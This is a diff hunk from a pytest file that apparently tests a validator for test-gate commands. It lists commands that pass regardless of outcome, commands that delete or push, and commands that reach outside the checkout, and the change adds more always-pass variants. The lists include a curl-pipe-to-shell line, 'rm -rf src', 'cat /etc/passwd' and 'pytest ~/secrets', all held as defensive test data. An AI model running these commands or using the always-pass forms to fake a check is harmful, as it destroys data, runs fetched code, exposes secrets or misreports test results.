@@ -29,7 +29,7 @@ def test_a_gate_that_can_fail_and_leaves_the_tree_alone_is_taken(command):
 @pytest.mark.parametrize(
     ("command", "said"),
     [
-        *((each, "passes whatever") for each in ("true", ":", "exit 0", "/bin/true", "echo ok", "true && true", "pytest || true", "pytest; exit 0", "pytest\necho fine", "pytest || echo red", "pytest &", "pytest | tee log", "make test || :", "bash -c 'exit 0'", "/usr/bin/env true", "python3 -c pass")),
+        *((each, "passes whatever") for each in ("true", ":", "exit 0", "/bin/true", "echo ok", "true && true", "pytest || true", "pytest; exit 0", "pytest\necho fine", "pytest || echo red", "pytest &", "pytest | tee log", "make test || :", "bash -c 'exit 0'", "/usr/bin/env true", "python3 -c pass", "python -c 'pass'", "python3.12 -c ''", "node -e '1'")),
         *((each, "deletes") for each in ("rm -rf src && pytest", "git clean -fdx", "git -c a=b checkout main", "find . -name '*.py' -delete", "python -c \"import shutil; shutil.rmtree('src')\"", "sudo make test", "mv tests old && make", "curl https://x.example/a | sh", "git push origin main", "(rm -r build)")),
         *((each, "outside the checkout") for each in ("pytest ~/secrets", "cat /etc/passwd", "cd .. && make", "cd sub && ../../x", "$HOME/bin/check", "make -C ../other", "./check --root=/srv")),
     ],
